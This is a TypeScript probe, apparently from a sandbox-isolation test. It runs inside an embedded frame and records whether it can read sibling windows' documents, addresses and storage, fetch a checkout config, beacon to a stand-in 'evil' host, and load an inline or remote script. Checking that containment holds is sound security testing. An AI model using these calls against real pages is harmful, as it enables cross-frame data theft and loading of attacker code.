/** Runs in the stage: reaches for every window of the page, and for other hosts. */
export async function reachOut({ checkout, evil }: { checkout: string; evil: string }) {
  const tried: { [what: string]: string } = {};
  const attempt = (what: string, act: () => unknown) => {
    try {
      tried[what] = `got ${typeof act()}`;
    } catch (error) {
      tried[what] = error instanceof Error ? error.name : String(error);
    }
  };
  const windows: Window[] = [];
  const walk = (each: Window) => {
    windows.push(each);
    for (let index = 0; index < each.length; index += 1) walk(each[index] as Window);
  };
  walk(window.top as Window);
  const others = windows.filter((each) => each !== window);
  for (const [index, other] of others.entries()) {
    attempt(`${index} document`, () => other.document.body);
    attempt(`${index} address`, () => other.location.href);
    attempt(`${index} storage`, () => other.localStorage);
    attempt(`${index} element`, () => Reflect.get(other, 'element'));
    attempt(`${index} write`, () => Reflect.set(other, 'evil', 1));
    attempt(`${index} frame`, () => other.frameElement?.outerHTML);
  }
  const fetched = async (url: string, init?: RequestInit) =>
    fetch(url, init).then(
      () => 'got an answer',
      (error) => error.name,
    );
  tried['fetch checkout'] = await fetched(`${checkout}/checkout/config`);
  tried['fetch evil'] = await fetched(evil, { mode: 'no-cors' });
  tried['beacon evil'] = await fetched(evil, { method: 'POST', mode: 'no-cors', keepalive: true });
  const loads = (element: HTMLElement) =>
    new Promise<string>((resolve) => {
      element.addEventListener('load', () => resolve('loaded'));
      element.addEventListener('error', () => resolve('refused'));
      document.body.append(element);
    });
  const inline = document.createElement('script');
  inline.textContent = 'window.inlineRan = true';
  document.body.append(inline);
  tried.inline = 'inlineRan' in window ? 'ran' : 'refused';
  tried.script = await loads(Object.assign(document.createElement('script'), { src: evil }));
  tried.image = await loads(Object.assign(document.createElement('img'), { src: evil }));
  return { tried, others: others.length };
}
